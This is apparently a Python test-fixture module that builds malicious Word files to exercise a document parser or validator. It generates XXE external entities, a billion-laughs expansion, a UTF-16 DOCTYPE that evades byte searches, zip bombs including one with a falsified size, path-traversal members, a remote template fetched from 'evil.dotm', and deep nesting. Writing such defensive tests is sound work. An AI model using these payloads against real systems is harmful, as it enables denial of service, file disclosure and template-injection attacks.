"""Word documents: made by python-docx, and then taken apart as an attacker would."""
import io
import zipfile
from collections.abc import Callable, Mapping

import docx

SENTENCE = "The two sides agreed to hold a fisheries forum in Oslo in 2027."
BODY, TYPES = "word/document.xml", "[Content_Types].xml"


def made(build: Callable[[docx.document.Document], None]) -> bytes:
    document = docx.Document()
    build(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def plain() -> bytes:
    return made(lambda document: document.add_paragraph(SENTENCE))


def with_members(changes: Mapping[str, bytes | None], content: bytes | None = None) -> bytes:
    """The document with members put in, replaced, or (None) left out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content or plain())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, data in changes.items():
            if data is not None:
                new.writestr(name, data)
    return out.getvalue()


def body_with(text: bytes, declaration: bytes = b"") -> bytes:
    """The document with this as the words of its body, and a declaration before the root."""
    xml = (b'<?xml version="1.0"?>' + declaration + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           b"<w:body>" + text + b"</w:body></w:document>")
    return with_members({BODY: xml})


def paragraph(words: bytes) -> bytes:
    return b"<w:p><w:r><w:t>" + words + b"</w:t></w:r></w:p>"


def entity(target: str) -> bytes:
    """An entity that would bring in a file or an address."""
    return body_with(paragraph(b"&outside;"), b'<!DOCTYPE w [<!ENTITY outside SYSTEM "%s">]>' % target.encode())


def laughs() -> bytes:
    entities = b"".join(b'<!ENTITY l%d "%s">' % (at, b"&l%d;" % (at - 1) * 10) for at in range(1, 10))
    return body_with(paragraph(b"&l9;"), b'<!DOCTYPE w [<!ENTITY l0 "lol">' + entities + b"]>")


def utf16_entity() -> bytes:
    """A document type that a search for its bytes in UTF-8 does not see."""
    return with_members({BODY: '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w []><w/>'.encode("utf-16")})


def bomb(megabytes: int = 200) -> bytes:
    return body_with(paragraph(b"a" * (megabytes * 1_000_000)))


def lying_bomb() -> bytes:
    """A bomb whose directory says that it unpacks to ten bytes."""
    content = bytearray(bomb(50))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.getinfo(BODY).file_size.to_bytes(4, "little")
    return bytes(content).replace(size, (10).to_bytes(4, "little"))


def crowded(parts: int = 20_000) -> bytes:
    return with_members({f"word/media/{number}.bin": b"" for number in range(parts)})


def climbing() -> bytes:
    return with_members({"../../../tmp/climbed.txt": b"out of the folder"})


def remote_template() -> bytes:
    """Settings that would have the word processor fetch a template, and a picture from elsewhere."""
    relations = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                 b'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>')
    return with_members({"word/_rels/settings.xml.rels": relations})


def nested(depth: int = 3_000) -> bytes:
    return body_with(b"<w:tbl><w:tr><w:tc>" * depth + paragraph(b"deep") + b"</w:tc></w:tr></w:tbl>" * depth)


def zip_protected() -> bytes:
    """Members marked as encrypted."""
    content = bytearray(plain())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def other_zip(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "content")
    return out.getvalue()


def ole(stream: str = "") -> bytes:
    """The beginning of an Office file of the old kind, with the name of a stream."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + stream.encode("utf-16-le") + b"\0" * 512
